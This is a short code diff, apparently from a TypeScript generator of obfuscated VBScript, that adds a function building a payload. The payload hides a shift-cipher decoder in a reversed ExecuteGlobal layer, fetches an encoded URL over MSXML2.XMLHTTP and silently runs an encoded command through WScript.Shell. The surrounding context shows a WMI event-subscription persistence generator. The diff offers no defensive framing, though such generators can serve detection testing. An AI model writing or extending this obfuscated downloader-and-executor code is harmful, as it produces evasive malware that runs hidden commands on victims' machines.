@@ -268,3 +268,17 @@ export function wmiSubscription(command: string): string {
     'binding.Filter = fpath : binding.Consumer = cpath : binding.Put_',
   ].join('\r\n');
 }
+
+/** A decoder Function hidden in an ExecuteGlobal layer, then called by the outer script for its URL and command. */
+export function executedLibrary(opts: { url: string; command: string }): string {
+  const { fn } = shiftCipher('', 1, 'Dx');
+  const encode = (s: string) => literal([...s].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''));
+  return [
+    // One line, statements joined with ':', as a string literal cannot hold a line break.
+    `ExecuteGlobal ${reversed(fn.replace(/\r\n\s*/g, ' : '))}`,
+    'Set h = CreateObject("MSXML2.XMLHTTP")',
+    `h.Open "GET", Dx(${encode(opts.url)}), False`,
+    'h.Send',
+    `CreateObject("WScript.Shell").Run Dx(${encode(opts.command)}), 0`,
+  ].join('\r\n');
+}
